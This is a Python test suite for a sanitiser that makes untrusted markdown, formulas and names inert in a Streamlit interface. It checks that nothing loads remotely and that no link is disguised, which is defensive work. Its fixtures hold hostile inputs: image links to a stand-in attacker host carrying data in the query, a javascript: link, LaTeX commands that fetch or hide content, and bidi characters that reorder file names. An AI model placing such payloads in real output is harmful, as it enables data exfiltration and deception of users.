"""Text from elsewhere on screen: nothing in it loads, hides or acts."""

from __future__ import annotations

import re
from textwrap import dedent

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lib.ui.inert import plain, plain_lines, prose
from tests.hostile import ALL, HOSTILE

FENCE = "`" * 3
IMAGE = "![x](http://evil.example/q)"

IMAGES_AND_LINKS = {
    "image": "look ![chart](http://evil.example/x.png?d=secret)",
    "image in a link": "[![a](http://evil.example/i)](http://evil.example/c)",
    "image by reference": "![a][r]\n\n[r]: http://evil.example/i.png",
    "image by short reference": "![a]\n\n[a]: http://evil.example/i.png",
    "image in a table": "| a |\n|---|\n| ![i](http://evil.example) |",
    "image after an open backtick": "a ` b\n\nc ![x](http://evil.example/q) ` d",
    "image over two lines": "![a\nb](http://evil.example/x)",
    "image in a quote in a list": "- > ![a](http://evil.example/x)",
    "image with angle brackets": "![a](<http://evil.example/a b>)",
    "link with another name": "[https://good.example](https://evil.example)",
    "link with a title": '[a](http://evil.example "http://good.example")',
    "indented only until Streamlit strips it": f"\n    {IMAGE}\nx",
    "indented only until Streamlit dedents it": f"      a\n\n    {IMAGE}",
}


# Marks of Streamlit's own that make code of what CommonMark reads as text, and the other way round.
FORMULAS_AND_DIRECTIVES = {
    "formula around a backtick": "a $`$ ![x](http://evil.example/m.png) $`$ b",
    "directive around a backtick": ":red[`] ![x](http://evil.example/d.png) :red[`]",
    "directive's attribute": ':x[a]{b="`"} ![x](http://evil.example/d.png) :x[a]{b="`"}',
    "leaf directive": '::x[`]{a="b"}\n![x](http://evil.example/l.png) `',
    "container around a fence": ":::x\n```\n:::\n![x](http://evil.example/c.png)\n```",
    "diagram named by an entity": '```&#109;ermaid\nflowchart TD\nA@{ img: "http://evil.example/m.png" }\n```',
    "formula block around a fence": "$$\n```\n$$\n![x](http://evil.example/f.png)\n```",
    "formula around a link": "$`$ [your bank](http://evil.example/l) $`$",
    "address around a backtick": "http://a.example/` ![x](http://evil.example/a.png) `",
    "formula block in no code": f"\\`\n$$\n`\n{FENCE}\n$$\n{IMAGE}\n{FENCE}",
    "formula block between two backticks": f"a ` b\n\n$$\n\nc ` d\n\n{FENCE}\n$$\n{IMAGE}\n{FENCE}",
    "container in no code": f"\\`\n:::x\n`\n{FENCE}\n:::\n{IMAGE}\n{FENCE}",
    "formula with a command that acts": r"$\href{http://evil.example/x}{y}$",
    "escaped once more": r"\$`\$ and \\$x\\$",
}


FORMULAS = {
    r"mean $\bar{x} = \frac{1}{n}$.": r"mean <$\bar{x} = \frac{1}{n}$>.",
    r"\(E = mc^2\)": "<$E = mc^2$>",
    r"so \[ x = 1 \] follows": r"so <$\displaystyle x = 1$> follows",
    "so $$x = 1$$ follows": r"so <$\displaystyle x = 1$> follows",
    "$$x = 1$$": "$$\n\\displaystyle x = 1\n$$",
    "\\[\n\\begin{aligned} a &= b \\\\ % why\n  &= c\n\\end{aligned}\\]": (
        "$$\n\\displaystyle \\begin{aligned} a &= b \\\\ &= c \\end{aligned}\n$$"
    ),
    "1. a\n   $$\n   x\n   $$": "1. a\n   $$\n   \\displaystyle x\n   $$",
    "> \\[\n> a\n> \\]": "> $$\n> \\displaystyle a\n> $$",
    "| a |\n|---|\n| $|x|$ |": "| a |\n|---|\n| <$\\vert x\\vert$> |",
    "$n$th, $k$-means": "<$n$>th, <$k$>-means",
    "$x$, $2x$, $100$, $f(x)$, $max(a, b)$": "<$x$>, <$2x$>, <$100$>, <$f(x)$>, <$max(a, b)$>",
    "$profit = revenue - cost$": "<$profit = revenue - cost$>",
    r"$p \times \$5$": r"<$p \times \text{\textdollar}5$>",
    "$f:x$, $a<b$, $[a](b)$, $n![a]$": "<$f: x$>, <$a< b$>, <$[a] (b)$>, <$n! [a]$>",
    "المعادلة $y = x$ هنا": "المعادلة <$y = x$> هنا",
    "costs $5, and $x$ is free": r"costs \$5, and <$x$> is free",
    f"{FENCE}\n$x$\n{FENCE}\n`$y$` $z$": f"{FENCE}\n$x$\n{FENCE}\n`$y$` <$z$>",
}

NO_FORMULAS = (
    "$5 and $10", "US$5 or A$6$", "$5-$10", "$5/$10", "$20 (or 3$)", "from $100K to 200K$", "$5 or 7$", "$ x $", "$x$5",
    "$HOME and $PATH", "$PATH$", "$HOME/$USER", "$$", "$$$ and $$$$", "a $x", "$5 و 10$", "$x\n\ny$", "$$\n\na\n$$",
)  # fmt: skip

COMMANDS_THAT_ACT = (
    "href{u}{x}", "url{u}", "includegraphics{u}", "htmlClass{a}{x}", "htmlData{a=b}{x}", "htmlStyle{color: red}{x}",
    "class{a}{x}", "style{a}{x}", "data{a}{x}", "rule{9em}{9em}", "kern-9em x", "raisebox{9em}{x}", "hspace{-9em}",
    "rlap{x}", "color{white}x", "phantom{x}", "def\\a{x}", "newcommand{\\a}{x}", "char`x", "\\[-9em]",
)  # fmt: skip


def targets(markdown: str) -> list[str]:
    """What a CommonMark reader would load, or follow under another name than the target's."""
    return [*_targets(markdown), *_targets(with_formulas(markdown))]


def with_formulas(markdown: str) -> str:
    """What a reader sees that knows formulas: blocks are fences to it, and those within a line spans of code."""
    fences = re.sub(r"^([ >]*)\${2,}$", rf"\1{FENCE}", markdown, flags=re.MULTILINE)
    return re.sub(r"(?<![\\$])\$(?!\$)([^$`]+)\$(?!\$)", "`x`", fences)


def _targets(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").enable("table").parse(dedent(markdown).strip())
    inline = [child for token in tokens for child in token.children or ()]
    return [t.type for t in inline if t.type == "image" or (t.type == "link_open" and t.markup != "autolink")]


@pytest.mark.parametrize("markdown", IMAGES_AND_LINKS.values(), ids=IMAGES_AND_LINKS.keys())
def test_nothing_loads_and_every_link_shows_where_it_leads(markdown: str) -> None:
    assert targets(markdown)
    assert targets(prose(markdown)) == []


@pytest.mark.parametrize("text", [*HOSTILE.values(), ALL], ids=[*HOSTILE, "all"])
def test_hostile_text_is_only_read(text: str) -> None:
    assert targets(prose(text)) == []
    for literal in (plain(text), plain_lines(text)):
        drawn = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(literal)
        assert set(re.findall(r"<[^\s>]*", drawn)) <= {"<p", "</p", "<br"}


MARKS = st.text(alphabet="![]()`<>:/\\\n -|ab\"'#~*_=.h$^", max_size=80)
LINES = st.lists(
    st.tuples(
        st.sampled_from(["", "    ", "   ", "> ", "- ", "-   ", "1. ", "20) ", "[^a]: ", "      "]),
        st.sampled_from(
            ["$$", "$$ x", "$$x$$", FENCE, "~~~", "\\`", "`a", "`", ":::x", ":::", "$x$ a", "$x", "\\[", "\\]", "",
             "\\(x\\)", "\\$x\\$", "[a]: http://evil.example", "[a]", "[^a]", "![a]", IMAGE, "[b](http://e)", "a"]
        ),
    ).map("".join),
    max_size=9,
).map("\n".join)  # fmt: skip


@given(MARKS | LINES)
def test_no_mixture_of_marks_gets_through(markdown: str) -> None:
    assert targets(prose(markdown)) == []


@pytest.mark.parametrize(("markdown", "drawn"), FORMULAS.items())
def test_formulas_are_drawn(markdown: str, drawn: str) -> None:
    made = prose(markdown)
    assert made == drawn.replace("<$", "\u2066$").replace("$>", "$\u2069")
    # Streamlit's own test of whether there is anything to draw.
    assert re.search(r"(?<!\$)\$\$+(?!\$)[\s\S]*?\$\$|(?<!\$)\$(?![\s$])[^$\n]*?[^\s$]\$(?!\d)", made)


@pytest.mark.parametrize("markdown", NO_FORMULAS)
def test_money_is_text(markdown: str) -> None:
    assert not re.search(r"(?<!\\)\$", prose(markdown))


@pytest.mark.parametrize("command", COMMANDS_THAT_ACT)
@pytest.mark.parametrize("around", ["${}$", "$${}$$", "\\[{}\\]", "\\(a {}\\)"])
def test_a_formula_that_would_act_stays_text(command: str, around: str) -> None:
    assert not re.search(r"(?<!\\)\$", prose(around.format(f"\\{command}")))


@pytest.mark.parametrize("markdown", FORMULAS_AND_DIRECTIVES.values(), ids=FORMULAS_AND_DIRECTIVES.keys())
def test_streamlits_own_marks_are_text(markdown: str) -> None:
    made = prose(markdown)
    outside_code = re.sub(r"^```.*?(^```|\Z)|(?<!\\)`[^`\n]*`|\\\\", "", made, flags=re.DOTALL | re.MULTILINE)
    assert re.findall(r"(?<!\\)\$|(?<!\\):(?=[A-Za-z:\[])", outside_code.replace("http:", "")) == []
    assert not re.search(r"^```(?!text$|$)", made, re.MULTILINE)


def test_no_footnote_makes_text_of_what_was_code() -> None:
    assert r"\[^a]:" in prose(f"-   [^a]: b\n\n        {IMAGE}\n\n[^a]")


def test_what_is_code_only_by_its_blanks_is_kept_apart_too() -> None:
    # A paragraph that goes on, in CommonMark; a block of code to the parser here.
    assert "![x]\u2060(" in prose(f"> > a\n      {FENCE}x {IMAGE}")


def test_a_script_is_no_link() -> None:
    assert "](" not in prose("[press](javascript:alert(1))")


def test_code_stays_as_it_is() -> None:
    markdown = "Use `a[0](x)` or\n\n```python\nv = rows[1](2)\n![kept](http://kept.example)\n```\n\ndone"
    made = prose(markdown)
    assert "`a[0]\u2060(x)`" in made
    assert "v = rows[1](2)\n![kept](http://kept.example)" in made


def test_plain_markdown_is_left_alone() -> None:
    markdown = "# Title\n\n1. **a** and *b*\n2. `c`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\nSee <https://duckdb.org>."
    assert prose(markdown) == markdown


@pytest.mark.parametrize("dashes", [":--", "--:", ":-:"])
def test_a_table_keeps_its_alignment(dashes: str) -> None:
    markdown = f"| x | y |\n|{dashes}|{dashes}|\n| 1 | 2 |"
    assert prose(markdown) == markdown


@pytest.mark.parametrize(
    "name",
    [":streamlit:", "\\:streamlit:", "&#58;streamlit:", ":stre&#97;mlit&colon;", ":material/verified:",
     "a:material\\/verified:", "&#x03A;material/verified:", "<http://a.example/:streamlit:>"],
)  # fmt: skip
def test_no_icon_of_the_app_stands_in_a_models_words(name: str) -> None:
    assert not re.search(r":(streamlit|material/\w+):", MarkdownIt().render(prose(f"{name} checked")))


def test_an_address_keeps_its_colons() -> None:
    assert prose("http://a.example:80/x:y <https://a.example/b:c>") == (
        "http://a.example:80/x%3Ay <https://a.example/b%3Ac>"
    )


def test_diagrams_stay_code() -> None:
    assert prose("```mermaid\ngraph TD\n```").startswith("```text")


@pytest.mark.parametrize(
    "text",
    ["a*b*", "<script>", "[x](y)", "`c`", "# h", "$1$", ":red[x]", "- x", "1. x", "_a_", "&amp;", "->", ":streamlit:"],
)
def test_names_are_literal(text: str) -> None:
    shown = MarkdownIt().render(plain(text)).replace("\u2060", "").strip()
    assert shown == f"<p>{text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</p>"


def test_names_cannot_reorder_or_hide_text() -> None:
    assert plain("sales\u202evsc.exe\x00\u200b") == "sales vsc.exe"


@pytest.mark.parametrize("text", ["LLM_API_KEY", "sales.csv", "3 of 4 (75 %)", "a: b", "12:30"])
def test_what_cannot_act_is_left_alone(text: str) -> None:
    assert plain(text) == text


def test_lines_do_not_become_a_table() -> None:
    made = MarkdownIt().enable("table").render(plain_lines("| a | b |\n|--|--|\n| c | d |"))
    assert "<table" not in made
    assert "| c | d |" in made


def test_a_question_keeps_its_lines() -> None:
    assert plain_lines("a\nb") == "a  \nb"


@pytest.mark.parametrize("name", ["https://evil.test/a", "www.evil.test", "WWW.evil.test", "me@evil.test"])
def test_an_address_in_a_name_is_no_link(name: str) -> None:
    shown = plain(name)
    assert shown.replace("\u2060", "").replace("\\", "") == name
    assert not re.search(r"://|www\.|\w@", shown, re.IGNORECASE)
